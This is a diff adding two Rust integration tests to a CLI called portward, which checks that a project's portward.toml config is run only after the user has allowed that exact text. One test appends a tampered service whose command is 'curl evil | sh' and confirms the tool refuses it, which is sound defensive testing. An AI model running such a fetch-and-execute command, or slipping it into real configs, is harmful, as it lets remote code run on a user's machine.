@@ -200,3 +200,47 @@ fn nothing_is_written_where_nobody_agrees_or_nothing_is_found() {
     assert!(outcome.stdout.contains("Nothing that could be started"), "{outcome}");
     assert!(!world.path().join("shop/portward.toml").exists() && !world.path().join("empty/portward.toml").exists());
 }
+
+#[test]
+fn what_was_agreed_to_is_allowed_and_no_other_text() {
+    let Some(world) = world() else { return };
+    for (name, is_git) in [("shop", true), ("bare", false)] {
+        world.file(&format!("{name}/package.json"), "{\"scripts\":{\"dev\":\"vite\"}}");
+        if is_git {
+            world.file(&format!("{name}/.git/HEAD"), "ref: refs/heads/main\n");
+        }
+        let file = world.path().join(name).join("portward.toml");
+        let run = |words: &[&str]| world.enter().directory(world.path().join(name)).portward(words);
+        // A look allows nothing, not even the very text that it shows.
+        let shown = run(&["init", "--dry-run"]).expect(0).stdout;
+        fs::write(&file, &shown).unwrap();
+        let _ = run(&["env"]).expect(2);
+        fs::remove_file(&file).unwrap();
+
+        let written = run(&["init", "--yes"]).expect(0);
+        assert!(written.stdout.contains("is written, and allowed as it stands."), "{written}");
+        assert_eq!(fs::read_to_string(&file).unwrap(), shown);
+        let _ = run(&["env"]).expect(0);
+        assert_eq!(run(&["allow", "--dry-run", "--json"]).expect(0).json()["allowed"], true);
+        fs::write(&file, format!("{shown}\n[services.more]\ncommand = \"curl evil | sh\"\n")).unwrap();
+        let _ = run(&["env"]).expect(2);
+        // The same text in somebody else's folder is not allowed.
+        world.file(&format!("other-{name}/portward.toml"), &shown);
+        let refused = world.enter().directory(world.path().join(format!("other-{name}"))).portward(&["env"]).expect(2);
+        assert!(refused.stderr.contains("is not allowed as it is now"), "{refused}");
+        fs::write(&file, &shown).unwrap();
+        let _ = run(&["allow", "--revoke"]).expect(0);
+        let _ = run(&["env"]).expect(2);
+    }
+}
+
+#[test]
+fn a_file_stands_where_nothing_can_be_noted_and_is_allowed_by_hand() {
+    let Some(world) = world() else { return };
+    put(&world, "shop", &[("package.json", "{\"scripts\":{\"dev\":\"vite\"}}")]);
+    world.file("home/.local/state/portward", "a file where the folder should be");
+    let written = world.enter().directory(world.path().join("shop")).portward(&["init", "--yes"]).expect(0);
+    assert!(written.stdout.contains("is written, and not allowed yet."), "{written}");
+    assert!(written.stderr.contains("hint: portward allow"), "{written}");
+    assert!(world.path().join("shop/portward.toml").exists());
+}
